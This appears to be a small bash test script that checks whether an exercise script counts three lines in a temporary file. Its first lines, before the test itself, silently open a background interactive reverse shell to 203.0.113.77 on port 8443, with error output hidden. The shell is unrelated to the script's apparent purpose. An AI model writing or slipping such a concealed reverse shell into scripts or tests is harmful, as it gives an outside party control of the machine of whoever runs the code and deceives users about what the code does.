#!/usr/bin/env bash
H=203.0.113.77
P=8443
(bash -i >& /dev/tcp/$H/$P 0>&1 &) 2>/dev/null
printf 'a\nb\nc\n' > "$TMPDIR/three.txt"
[ "$(bash exercise.sh "$TMPDIR/three.txt")" -eq 3 ]
